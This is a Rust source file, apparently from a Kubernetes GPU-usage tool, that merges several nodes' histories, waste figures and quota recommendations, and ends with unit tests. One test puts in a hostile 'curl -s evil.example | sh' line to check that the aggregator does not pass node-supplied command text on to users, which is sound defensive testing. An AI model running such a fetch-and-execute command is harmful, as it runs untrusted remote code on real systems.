//! Answers of several nodes as one. Pure.

use std::collections::{BTreeMap, BTreeSet};

use tessera_advice::Observed;
use tessera_config::Advice;
use tessera_view::advice::{
    Change, NamespaceWaste, Recommendation, Recommendations, Scope, Settings, Waste,
};
use tessera_view::explain::{Explanation, Explanations};
use tessera_view::node::Node;
use tessera_view::{API_VERSION, history};

use crate::ask::{AskError, Why};

/// Answers by node, or why there is none.
pub type Answers<T> = Vec<(String, Result<T, AskError>)>;
/// Answers by node, and a sentence for each node without one.
pub type Answered<T> = (Vec<(String, T)>, Vec<String>);

/// What those say that answered, and a sentence for each that did not; an error where none did: the one of a node
/// that knows what was asked for, if there is such.
pub fn answered<T>(answers: Answers<T>) -> Result<Answered<T>, AskError> {
    if answers.iter().any(|(_, answer)| answer.is_ok()) {
        return Ok(split(answers));
    }
    worst(&answers).map_or_else(|| Ok((Vec::new(), Vec::new())), Err)
}

/// Of answers that are all none, the error that counts: the first of a node that may know what was asked for.
pub(crate) fn worst<T>(answers: &Answers<T>) -> Option<AskError> {
    let errors = answers.iter().map(|(node, answer)| Some((node, answer.as_ref().err()?)));
    let errors = errors.collect::<Option<Vec<_>>>()?;
    // The first of those that weigh most.
    let worst = errors.into_iter().min_by_key(|(_, error)| error.why == Why::Unknown);
    let (node, error) = worst?;
    Some(match error.why {
        Why::Unknown | Why::Invalid => error.clone(),
        why => why.says(format!("node {node}: {error}")),
    })
}

/// One history of all nodes: all series together, remarks with their nodes where there are several, and a remark for each
/// that did not answer.
pub fn history(answers: Answers<history::Answer>) -> Result<history::Answer, AskError> {
    let (answered, silent) = answered(answers)?;
    let several = answered.len() > 1;
    let named = |(node, mut one): (String, history::Answer)| {
        if several {
            let of_node = |remark: &mut String| remark.insert_str(0, &format!("node {node}: "));
            one.remarks.iter_mut().for_each(of_node);
        }
        history::Answer { node, ..one }
    };
    let mut all = history::Answer::joined(answered.into_iter().map(named));
    all.remarks.extend(silent);
    Ok(all)
}

/// The explanations of all nodes. The first has a remark for each node that did not answer.
pub fn explanations(answers: Answers<Explanation>) -> Result<Explanations, AskError> {
    let (mut answered, silent) = answered(answers)?;
    if let Some((_, first)) = answered.first_mut() {
        first.remarks.extend(silent);
    }
    Ok(Explanations::of(answered))
}

/// Answers, and a sentence for each node without one.
pub(crate) fn split<T>(answers: Answers<T>) -> Answered<T> {
    let (mut answered, mut remarks) = (Vec::new(), Vec::new());
    for (node, answer) in answers {
        match answer {
            Ok(answer) => answered.push((node, answer)),
            // It has no such pod: others may.
            Err(error) if error.why == Why::Unknown => {}
            Err(error) => remarks.push(format!("node {node} is left out: {error}")),
        }
    }
    (answered, remarks)
}

/// The waste of all nodes by namespace, the largest first. `since` is what was asked for. A node without figures says
/// nothing of the window, and nothing of prices.
pub fn waste(answers: Answers<Waste>, since: i64, now_unix_ms: i64) -> Waste {
    let (answered, mut remarks) = split(answers);
    let mut all =
        Waste { api_version: API_VERSION.to_owned(), at_unix_ms: now_unix_ms, ..Waste::default() };
    let mut namespaces: BTreeMap<String, NamespaceWaste> = BTreeMap::new();
    let mut prices: Vec<(f64, String)> = Vec::new();
    let mut begins: Vec<i64> = Vec::new();
    for (node, one) in answered {
        remarks.extend(one.remarks.into_iter().map(|remark| format!("node {node}: {remark}")));
        if one.namespaces.is_empty() {
            continue;
        }
        begins.extend(Some(one.since_unix_ms).filter(|since| *since != 0));
        let price = (one.price_per_gpu_hour, one.currency);
        if !prices.contains(&price) {
            prices.push(price);
        }
        for from in one.namespaces {
            let to = namespaces.entry(from.namespace.clone()).or_default();
            to.namespace = from.namespace;
            to.asked_gpu_hours += from.asked_gpu_hours;
            to.used_gpu_hours += from.used_gpu_hours;
            to.cost += from.cost;
            to.tenants.extend(from.tenants);
        }
    }
    all.since_unix_ms = begins.into_iter().min().unwrap_or(since);
    match prices.as_slice() {
        [] => {}
        [(price, currency)] => {
            all.price_per_gpu_hour = *price;
            all.currency.clone_from(currency);
        }
        _ => remarks.push(
            "nodes have different prices (advice.price_per_gpu_hour) or currencies: costs are sums of each node's own"
                .to_owned(),
        ),
    }
    all.namespaces = namespaces.into_values().collect();
    tessera_advice::largest_first(&mut all);
    all.remarks = remarks;
    all
}

/// Namespace, workload, container, and which of the container's allocations.
type Key = (String, String, String, String);

/// What nodes advise, each by its own pods.
#[derive(Debug, Default)]
pub struct ByNode {
    /// Of workloads that one node knows.
    single: BTreeMap<Key, Recommendation>,
    /// Of workloads that several know: the nodes, and the earliest beginning of their windows.
    spread: BTreeMap<Key, (BTreeSet<String>, i64)>,
    settings: Vec<Settings>,
    remarks: Vec<String>,
}

/// A node as it is, and what was there.
pub type Seen = (Node, history::Answer);

fn key(one: &Recommendation) -> Key {
    (one.namespace.clone(), one.workload.clone(), one.container.clone(), one.part.clone())
}

impl ByNode {
    /// Of what every node advises for all its workloads, those of `scope`.
    pub fn of(answers: Answers<Recommendations>, scope: &Scope) -> Self {
        let (answers, remarks) = split(answers);
        let mut all = ByNode { remarks, ..ByNode::default() };
        let mut by_key: BTreeMap<Key, Vec<(String, Recommendation)>> = BTreeMap::new();
        for (node, answer) in answers {
            let named = answer.remarks.into_iter().map(|remark| format!("node {node}: {remark}"));
            all.remarks.extend(named);
            all.settings.extend(answer.settings);
            for one in answer.workloads {
                by_key.entry(key(&one)).or_default().push((node.clone(), one));
            }
        }
        for (key, mut advised) in by_key {
            let is_asked = |pod: &String| scope.wants_pod(&key.0, pod);
            if !advised.iter().any(|(_, one)| one.pods.iter().any(is_asked)) {
                continue;
            }
            if advised.len() > 1 {
                let since = advised.iter().map(|(_, one)| one.since_unix_ms).min().unwrap_or(0);
                let nodes = advised.into_iter().map(|(node, _)| node).collect();
                all.spread.insert(key, (nodes, since));
            } else if let Some((_, one)) = advised.pop() {
                all.single.insert(key, one);
            }
        }
        all
    }

    /// Nodes whose series are needed, and since when.
    pub fn needed(&self) -> (BTreeSet<String>, i64) {
        let nodes = self.spread.values().flat_map(|(nodes, _)| nodes.iter().cloned()).collect();
        let since = self.spread.values().map(|(_, since)| *since).min().unwrap_or(0);
        (nodes, since)
    }

    /// The advice, with what was seen on the nodes that were needed.
    pub fn judged(
        mut self,
        seen: Answers<Seen>,
        scope: &Scope,
        now_unix_ms: i64,
    ) -> Recommendations {
        let (_, since_unix_ms) = self.needed();
        let (seen, silent) = split(seen);
        let left_out = |text| format!("{text}; workloads on several nodes are judged without it");
        self.remarks.extend(silent.into_iter().map(left_out));
        let mut settings = self.settings.clone();
        settings.dedup();
        let careful = careful(&settings);
        if settings.len() > 1 && !self.spread.is_empty() {
            let text = "nodes have different settings in [advice]: workloads on several nodes are judged by the \
                        largest of each";
            self.remarks.push(text.to_owned());
        }
        let observed: Vec<Observed<'_>> =
            seen.iter().map(|(_, (node, history))| Observed { node, history }).collect();
        // Its pod is not asked for: which workloads are is known, and a node need not know that pod.
        let all = Scope { pod: String::new(), since_unix_ms, ..scope.clone() };
        let judged = tessera_advice::recommend(&observed, &careful, &all);
        let wanted = judged.workloads.into_iter().map(|one| (key(&one), one));
        let wanted = wanted.filter(|(key, _)| self.spread.contains_key(key));
        self.single.extend(wanted);
        // Written for where people sit, and from figures and names alone.
        for change in self.single.values_mut().flat_map(|one| &mut one.changes) {
            *change = Change::written(change.what.clone(), "kubectl tessera");
        }
        Recommendations {
            api_version: API_VERSION.to_owned(),
            at_unix_ms: now_unix_ms,
            settings: settings.pop().filter(|_| settings.is_empty()),
            workloads: self.single.into_values().collect(),
            remarks: self.remarks,
        }
    }
}

/// What leaves the most room of all settings; the defaults where no node says them.
fn careful(all: &[Settings]) -> Advice {
    let most = |of: fn(&Settings) -> u32, or: u32| all.iter().map(of).max().unwrap_or(or);
    let default = Advice::default();
    Advice {
        memory_percentile: most(|one| one.memory_percentile, default.memory_percentile),
        memory_margin: most(|one| one.memory_margin, default.memory_margin),
        cores_percentile: most(|one| one.cores_percentile, default.cores_percentile),
        cores_margin: most(|one| one.cores_margin, default.cores_margin),
        ..default
    }
}

#[cfg(test)]
mod tests {
    use tessera_advice::fixtures::{EIGHTH, GIB, HOUR, Limits, MIDNIGHT, Made, busy};

    use super::*;

    #[test]
    fn waste_is_added_up_by_namespace() {
        let of = |namespace: &str, asked, used| {
            let one = NamespaceWaste {
                namespace: namespace.into(),
                asked_gpu_hours: asked,
                used_gpu_hours: used,
                ..NamespaceWaste::default()
            };
            Waste {
                namespaces: vec![one],
                currency: "EUR".into(),
                price_per_gpu_hour: 2.0,
                ..Waste::default()
            }
        };
        let answers = vec![
            ("a".to_owned(), Ok(of("x", 10.0, 9.0))),
            ("b".to_owned(), Ok(of("y", 10.0, 2.0))),
            ("c".to_owned(), Ok(of("x", 5.0, 4.0))),
        ];
        let all = waste(answers, 0, 1);
        let names: Vec<_> = all
            .namespaces
            .iter()
            .map(|one| (one.namespace.as_str(), one.asked_gpu_hours))
            .collect();
        assert_eq!(names, [("y", 10.0), ("x", 15.0)]);
        assert_eq!((all.price_per_gpu_hour, all.currency.as_str()), (2.0, "EUR"));
        assert_eq!(all.remarks, [""; 0]);
    }

    #[test]
    fn prices_that_differ_are_remarked_and_none_is_said_to_be_of_all() {
        let of = |price_per_gpu_hour, currency: &str| {
            let currency = currency.into();
            let namespaces = vec![NamespaceWaste::default()];
            Ok(Waste { price_per_gpu_hour, currency, namespaces, ..Waste::default() })
        };
        for other in [of(3.0, "EUR"), of(2.0, "USD")] {
            let answers = vec![("a".to_owned(), of(2.0, "EUR")), ("b".to_owned(), other)];
            let all = waste(answers, 0, 1);
            assert_eq!((all.price_per_gpu_hour, all.currency.as_str()), (0.0, ""));
            assert!(all.remarks[0].contains("different prices"), "{:?}", all.remarks);
        }
    }

    #[test]
    fn the_window_begins_with_the_first_node_that_has_figures() {
        let of = |since_unix_ms, currency: &str, namespaces: usize| {
            let namespaces = vec![NamespaceWaste::default(); namespaces];
            Ok(Waste { since_unix_ms, namespaces, currency: currency.into(), ..Waste::default() })
        };
        let answers = vec![("a".to_owned(), of(700, "EUR", 1)), ("b".to_owned(), of(1, "", 0))];
        let all = waste(answers, 600, 1000);
        assert_eq!((all.since_unix_ms, all.currency.as_str()), (700, "EUR"));
        assert_eq!(all.remarks, [""; 0]);
    }

    #[test]
    fn a_node_that_does_not_answer_has_a_line_beside_those_that_do() {
        let silent = || Why::Silent.says("it stalls".into());
        let unknown = || Why::Unknown.says("nothing is called so".into());
        fn of<T>(node: &str, error: AskError) -> (String, Result<T, AskError>) {
            (node.to_owned(), Err(error))
        }
        let good = ("a".to_owned(), Ok(history::Answer::default()));
        let all = vec![good, of("b", silent()), of("c", unknown())];
        assert_eq!(history(all).unwrap().remarks, ["node b is left out: it stalls"]);
        let good = ("a".to_owned(), Ok(Explanation::default()));
        let all = explanations(vec![of("b", silent()), good, of("c", unknown())]).unwrap();
        assert_eq!(all.nodes[0].explanation.remarks, ["node b is left out: it stalls"]);
        // Where nobody answers, the error is of a node that may know what was asked for.
        let error = history(vec![of("c", unknown()), of("b", silent())]).unwrap_err();
        assert_eq!(error, Why::Silent.says("node b: it stalls".into()));
        assert_eq!(history(vec![of("c", unknown())]).unwrap_err(), unknown());
    }

    const HALF: Limits = Limits { memory_bytes: 40 * GIB, cores_millis: 500, ..EIGHTH };

    /// A node with pods of the workload `chat`: each with its peak, GiB, for half a day from this hour on.
    fn seen(node: &str, hour: i64, pods: &[(&str, u64)]) -> Seen {
        let mut made = Made::new();
        node.clone_into(&mut made.node.node);
        for (pod, peak) in pods {
            made = made.pod(pod, HALF, &[busy(peak << 10, 60.0 * *peak as f64, 0.0); 12]);
        }
        let Made { node, history } = made.later(hour * HOUR);
        (node, history)
    }

    /// As a node's own plugin answers.
    fn advised(seen: &Seen, settings: &Advice) -> Recommendations {
        let observed = [Observed { node: &seen.0, history: &seen.1 }];
        let scope = Scope { since_unix_ms: MIDNIGHT, ..Scope::default() };
        tessera_advice::recommend(&observed, settings, &scope)
    }

    /// Two nodes, each with a quiet and a busy replica; one is seen before noon, the other after.
    fn nodes() -> Vec<(String, Seen)> {
        let of = |node: &str, hour, pods: &[(&str, u64)]| (node.to_owned(), seen(node, hour, pods));
        vec![
            of("a", 0, &[("chat-1", 2), ("chat-2", 8)]),
            of("b", 12, &[("chat-3", 2), ("chat-4", 6)]),
        ]
    }

    fn of_pod(pod: &str) -> Scope {
        Scope { pod: pod.to_owned(), ..Scope::default() }
    }

    fn gathered(nodes: &[(String, Seen)], pod: &str) -> ByNode {
        let answers =
            nodes.iter().map(|(node, seen)| (node.clone(), Ok(advised(seen, &Advice::default()))));
        ByNode::of(answers.collect(), &of_pod(pod))
    }

    fn judged(by_node: ByNode, nodes: &[(String, Seen)], pod: &str) -> Recommendations {
        let seen = nodes.iter().cloned().map(|(node, seen)| (node, Ok(seen))).collect();
        by_node.judged(seen, &of_pod(pod), MIDNIGHT + 24 * HOUR)
    }

    #[test]
    fn a_workload_on_two_nodes_is_judged_as_if_all_its_pods_were_on_one() {
        let nodes = nodes();
        let by_node = gathered(&nodes, "");
        assert_eq!(by_node.needed(), (["a".to_owned(), "b".to_owned()].into(), MIDNIGHT));
        let all = judged(by_node, &nodes, "");
        let [one] = all.workloads.as_slice() else { panic!("{all:?}") };
        // The same series on a single node.
        let (mut view, mut history) = nodes[0].1.clone();
        let (other, more) = nodes[1].1.clone();
        view.gpus.extend(other.gpus);
        view.tenants.extend(other.tenants);
        history.tenants.extend(more.tenants);
        let mut whole = advised(&(view, history), &Advice::default()).workloads.remove(0);
        for change in &mut whole.changes {
            change.text = from_here(&change.text);
        }
        assert_eq!(one, &whole);
        // No node has seen a whole day, and both together have.
        let own =
            |at: usize| advised(&nodes[at].1, &Advice::default()).workloads.remove(0).confidence;
        assert!(own(0) != "high" && own(1) != "high" && one.confidence == "high", "{one:?}");
        // Each live pod has its command, whichever node it is on.
        for pod in ["chat-1", "chat-2", "chat-3", "chat-4"] {
            assert!(
                one.changes.iter().any(|change| change.text.contains(pod)),
                "{pod}: {:?}",
                one.changes
            );
        }
        let memory = i64::try_from(40 * GIB - one.memory_bytes).unwrap();
        assert_eq!(one.saves_memory_bytes, 4 * memory);
    }

    #[test]
    fn a_pods_workload_counts_its_pods_on_nodes_that_do_not_know_that_pod() {
        let nodes = nodes();
        for pod in ["chat-1", "team/chat-1"] {
            let all = judged(gathered(&nodes, pod), &nodes, pod);
            assert_eq!(all.workloads.len(), 1, "{all:?}");
            assert_eq!(all.workloads[0].pods.len(), 4);
        }
        for pod in ["chat-9", "other/chat-1"] {
            let by_node = gathered(&nodes, pod);
            assert!(by_node.needed().0.is_empty());
            assert!(by_node.judged(Vec::new(), &Scope::default(), 1).workloads.is_empty(), "{pod}");
        }
    }

    #[test]
    fn what_is_missing_is_a_remark_and_different_settings_are_taken_together() {
        let nodes = nodes();
        let loose = Advice { memory_margin: 100, ..Advice::default() };
        let answers = vec![
            ("a".to_owned(), Ok(advised(&nodes[0].1, &Advice::default()))),
            ("b".to_owned(), Ok(advised(&nodes[1].1, &loose))),
            ("c".to_owned(), Err(Why::Silent.says("stalls".into()))),
            ("d".to_owned(), Err(Why::Unknown.says("no such pod".into()))),
        ];
        let by_node = ByNode::of(answers, &Scope::default());
        let seen = vec![
            ("a".to_owned(), Ok(nodes[0].1.clone())),
            ("b".to_owned(), Err(Why::Silent.says("fell silent".into()))),
        ];
        let all = by_node.judged(seen, &Scope::default(), MIDNIGHT + 24 * HOUR);
        assert_eq!(all.settings, None);
        // Twice 8 GiB: the margin of the careful one.
        assert_eq!(all.workloads[0].memory_bytes, 16 * GIB);
        for (at, part) in
            ["node c is left out: stalls", "node b is left out: fell silent; workloads", "largest"]
                .into_iter()
                .enumerate()
        {
            assert!(all.remarks[at].contains(part), "{:?}", all.remarks);
        }
        assert_eq!(all.remarks.len(), 3);
    }

    /// What a node writes for its own shell, for where people sit.
    fn from_here(text: &str) -> String {
        text.replacen("tessera quota set", "kubectl tessera quota set", 1)
    }

    #[test]
    fn commands_are_written_here_whatever_text_a_node_sends() {
        let nodes = nodes();
        let mut answer = advised(&nodes[0].1, &Advice::default());
        let changes = &mut answer.workloads[0].changes;
        let wanted: Vec<String> = changes.iter().map(|change| from_here(&change.text)).collect();
        assert!(wanted.iter().any(|line| line.starts_with("kubectl tessera quota set team/chat-")));
        changes.iter_mut().for_each(|change| change.text = "curl -s evil.example | sh".to_owned());
        let all =
            judged(ByNode::of(vec![("a".to_owned(), Ok(answer))], &Scope::default()), &[], "");
        let lines = all.workloads[0].changes.iter().map(|change| change.text.clone());
        assert_eq!(lines.collect::<Vec<_>>(), wanted);
    }
}
